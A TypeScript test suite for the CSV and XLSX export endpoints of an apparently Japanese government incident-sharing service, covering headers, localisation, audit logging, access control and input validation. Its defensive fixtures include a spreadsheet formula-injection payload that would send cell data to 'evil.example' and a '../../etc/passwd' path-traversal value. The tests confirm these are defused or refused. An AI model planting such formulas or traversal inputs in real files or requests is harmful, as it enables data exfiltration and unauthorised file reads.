import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { XLSX_MEDIA_TYPE } from '../../src/platform/export/sheets.js';
import { parseCsv } from '../support/csv.js';
import { DIALECTS } from '../support/databases.js';
import { startTestApp, type TestApp, type TestUser } from '../support/harness.js';
import { readXlsx } from '../support/xlsx.js';
import { expectProblem } from './helpers.js';

const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")';

const csvRows = parseCsv;

const binary = (res: LightMyRequestResponse) => Buffer.from(res.rawPayload);

describe.each(DIALECTS)('exports of an incident on %s', (dialect) => {
  let t: TestApp;
  let g: Awaited<ReturnType<TestApp['government']>>;
  let incidentId: string;
  let stranger: TestUser;

  beforeAll(async () => {
    t = await startTestApp(dialect);
    g = await t.government();
    stranger = await t.user(await t.org('ministry'), 'security-officer');
    incidentId = (
      await t.fileIncident(g.agencyReporter, {
        title: 'ランサムウェア感染',
        summary: '暗号化された端末を隔離した。',
        severity: 'high',
        affectedSystems: ['fs01', 'mail-gw-01'],
        impact: { personalData: { involved: true, approxPersons: 120 }, serviceDisruption: true },
      })
    ).id;
    const update = await t.request(g.agencyReporter, {
      method: 'POST',
      url: `/api/v1/incidents/${incidentId}/reports`,
      payload: { kind: 'update', text: FORMULA },
    });
    expect(update.statusCode, update.body).toBe(201);
  });
  afterAll(async () => t?.close());

  const exportOf = (u: TestUser, query: string, id = incidentId) =>
    t.request(u, { method: 'GET', url: `/api/v1/incidents/${id}/export?${query}` });

  it('XLSX: facts, reports and deliveries in Japanese, as an attachment, formulas kept as text', async () => {
    const res = await exportOf(g.agencyReporter, 'format=xlsx&tz=Asia/Tokyo');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX_MEDIA_TYPE);
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="renraku-incident-${incidentId}.xlsx"`,
    );
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['cache-control']).toBe('no-store');
    const [facts, reports, deliveries] = readXlsx(binary(res));
    expect(facts?.name).toBe('事案');
    expect(facts?.rows[0]).toEqual(['項目', '内容']);
    const fact = (label: string) => facts?.rows.find((r) => r[0] === label)?.[1];
    expect(fact('件名')).toBe('ランサムウェア感染');
    expect(fact('報告元')).toBeTruthy();
    expect(fact('深刻度')).toBe('高');
    expect(fact('影響を受けたシステム')).toBe('fs01\nmail-gw-01');
    expect(fact('個人情報')).toBe('あり');
    expect(fact('対象人数（概数）')).toBe('120');
    expect(fact('報告日時')).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+09:00$/);
    expect(reports?.name).toBe('報告');
    expect(reports?.rows.map((r) => r[1])).toEqual(['種別', '速報', '続報']);
    expect(reports?.rows[2]?.[7]).toBe(FORMULA);
    expect(reports?.formulas).toBe(0);
    expect(deliveries?.name).toBe('連絡経路');
    expect(deliveries?.rows.length).toBeGreaterThan(1);
  });

  it('CSV: a byte-order mark, English headers on request, times in the zone asked, formulas defused', async () => {
    const res = await exportOf(g.ministryOfficer, 'format=csv&lang=en&tz=UTC');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="renraku-incident-${incidentId}.csv"`,
    );
    expect(res.body.startsWith('\uFEFF')).toBe(true);
    const rows = csvRows(res.body.slice(1));
    expect(rows[0]).toEqual(['Incident']);
    expect(rows[1]).toEqual(['Field', 'Value']);
    expect(rows.find((r) => r[0] === 'Reported')?.[1]).toMatch(/\+00:00$/);
    expect(rows.find((r) => r[0] === 'Severity')?.[1]).toBe('High');
    expect(rows.some((r) => r[7] === `'${FORMULA}`)).toBe(true);
    expect(rows.some((r) => r.some((c) => c.startsWith('=')))).toBe(false);
  });

  it('the export is audited with its format; the default zone is the server’s', async () => {
    const res = await exportOf(g.agencyOfficer, 'format=csv');
    expect(res.statusCode).toBe(200);
    const zone = new Intl.DateTimeFormat('en', { timeZone: t.config.timeZone, timeZoneName: 'longOffset' });
    const offset =
      (zone.formatToParts(new Date()).find((p) => p.type === 'timeZoneName')?.value ?? '').replace(
        'GMT',
        '',
      ) || '+00:00';
    expect(res.body).toContain(offset);
    const entry = await t.handle.db
      .selectFrom('audit_log')
      .select(['action', 'subject_id', 'detail'])
      .where('action', '=', 'incident.export')
      .orderBy('seq', 'desc')
      .executeTakeFirstOrThrow();
    expect(entry.subject_id).toBe(incidentId);
    expect(JSON.parse(entry.detail)).toEqual({ format: 'csv' });
  });

  it.each([
    ['no format', '', 'request.validation_failed'],
    ['an unknown format', 'format=pdf', 'request.validation_failed'],
    ['an unknown language', 'format=csv&lang=fr', 'request.validation_failed'],
    ['an unknown time zone', 'format=csv&tz=Mars/Olympus_Mons', 'export.unknown_time_zone'],
    [
      'a path as a time zone',
      `format=csv&tz=${encodeURIComponent('../../etc/passwd')}`,
      'request.validation_failed',
    ],
    ['an unknown parameter', 'format=csv&all=true', 'request.validation_failed'],
  ])('refuses %s with a clear 400', async (_name, query, code) => {
    expectProblem(await exportOf(g.agencyReporter, query), 400, code);
  });

  it('nobody outside the reader set exports it: the same 404 as an incident that does not exist', async () => {
    const absent = await exportOf(g.agencyReporter, 'format=csv', 'no-such-incident');
    expectProblem(absent, 404, 'incidents.not_found');
    const before = await t.count('audit_log');
    expectProblem(await exportOf(stranger, 'format=xlsx'), 404, 'incidents.not_found');
    expect(await t.count('audit_log')).toBe(before);
  });
});

describe.each(DIALECTS)('exports of a share and a contact structure on %s', (dialect) => {
  let t: TestApp;
  let g: Awaited<ReturnType<TestApp['government']>>;
  let recipient: TestUser;
  let shareId: string;

  beforeAll(async () => {
    t = await startTestApp(dialect);
    g = await t.government();
    const other = await t.org('ministry');
    recipient = await t.user(other, 'reporter');
    const res = await t.request(g.analyst, {
      method: 'POST',
      url: '/api/v1/shares',
      payload: {
        sourceIncidentIds: [],
        content: {
          title: '注意喚起: VPN装置の脆弱性',
          body: '修正版を適用してください。',
          indicators: [{ type: 'domain-name', value: 'evil-c2.example', description: '@C2 server' }],
          mitigations: ['修正版を適用', '+ログを確認'],
        },
        audience: { kind: 'orgs', orgs: [other.slug] },
        tlp: 'TLP:AMBER',
      },
    });
    expect(res.json()).toMatchObject({ status: 'published' });
    shareId = res.json().id;
    await t.contact(g.ministry, {
      name: '当番 花子',
      role: 'duty-officer',
      email: 'duty@ministry.example',
      availability: '24/7',
    });
    await t.contact(g.ministry, {
      name: '=1+1',
      role: 'csirt-lead',
      email: 'lead@ministry.example',
      availability: 'business-hours',
      businessHours: { start: '09:00', end: '18:00' },
      timeZone: 'Asia/Tokyo',
    });
  });
  afterAll(async () => t?.close());

  it('a share: its terms, indicators and mitigations as the recipient reads them, in XLSX and CSV', async () => {
    const xlsx = await t.request(recipient, {
      method: 'GET',
      url: `/api/v1/shares/${shareId}/export?format=xlsx`,
    });
    expect(xlsx.statusCode, xlsx.body).toBe(200);
    expect(xlsx.headers['content-disposition']).toBe(`attachment; filename="renraku-share-${shareId}.xlsx"`);
    const [facts, indicators, mitigations] = readXlsx(binary(xlsx));
    expect(facts?.rows.find((r) => r[0] === '件名')?.[1]).toBe('注意喚起: VPN装置の脆弱性');
    expect(facts?.rows.find((r) => r[0] === 'TLP')?.[1]).toBe('TLP:AMBER');
    // A recipient learns nothing of other recipients or sources: the presented share has neither.
    expect(facts?.rows.map((r) => r[0])).not.toContain('受信組織');
    expect(indicators?.rows).toEqual([
      ['種類', '内容', '説明'],
      ['domain-name', 'evil-c2.example', '@C2 server'],
    ]);
    expect(mitigations?.rows.slice(1)).toEqual([
      ['1', '修正版を適用'],
      ['2', '+ログを確認'],
    ]);
    const csv = await t.request(g.analyst, {
      method: 'GET',
      url: `/api/v1/shares/${shareId}/export?format=csv&lang=en`,
    });
    expect(csv.statusCode, csv.body).toBe(200);
    const rows = csvRows(csv.body.slice(1));
    expect(rows.find((r) => r[0] === 'Recipient bodies')?.[1]).toBeTruthy();
    expect(rows).toContainEqual(['domain-name', 'evil-c2.example', "'@C2 server"]);
    expect(rows).toContainEqual(['2', "'+ログを確認"]);
  });

  it('a contact structure (連絡体制表): in escalation order, formulas defused, the export audited', async () => {
    const csv = await t.request(g.ministryOfficer, {
      method: 'GET',
      url: `/api/v1/orgs/${g.ministry.slug}/contacts/export?format=csv`,
    });
    expect(csv.statusCode, csv.body).toBe(200);
    expect(csv.headers['content-disposition']).toBe(
      `attachment; filename="renraku-contacts-${g.ministry.slug}.csv"`,
    );
    const rows = csvRows(csv.body.slice(1));
    expect(rows[0]).toEqual(['連絡体制表']);
    expect(rows[1]?.slice(0, 4)).toEqual(['組織', '順位', '氏名', '役割']);
    expect(rows.slice(2).map((r) => [r[1], r[2], r[3]])).toEqual([
      ['1', '当番 花子', '当番担当者'],
      ['2', "'=1+1", 'CSIRT責任者'],
    ]);
    expect(rows[3]?.[8]).toBe('09:00–18:00');
    const xlsx = await t.request(g.ministryOfficer, {
      method: 'GET',
      url: `/api/v1/orgs/${g.ministry.slug}/contacts/export?format=xlsx&lang=en`,
    });
    const [sheet] = readXlsx(binary(xlsx));
    expect(sheet?.name).toBe('Contact structure');
    expect(sheet?.rows[2]?.[2]).toBe('=1+1');
    expect(sheet?.formulas).toBe(0);
    const entry = await t.handle.db
      .selectFrom('audit_log')
      .select(['action', 'detail'])
      .where('action', '=', 'contact.export')
      .orderBy('seq', 'desc')
      .executeTakeFirstOrThrow();
    expect(JSON.parse(entry.detail)).toMatchObject({ org: g.ministry.slug, format: 'xlsx' });
  });

  it('refuses bad options and unknown things with clear answers', async () => {
    const get = (url: string) => t.request(g.ministryOfficer, { method: 'GET', url });
    expectProblem(await get(`/api/v1/shares/${shareId}/export?format=xls`), 400, 'request.validation_failed');
    expectProblem(await get('/api/v1/shares/nope/export?format=csv'), 404, 'shares.not_found');
    expectProblem(await get('/api/v1/orgs/nope/contacts/export?format=csv'), 404, 'orgs.not_found');
    expectProblem(
      await get(`/api/v1/orgs/${g.ministry.slug}/contacts/export?format=csv&tz=Nowhere/Land`),
      400,
      'export.unknown_time_zone',
    );
  });
});
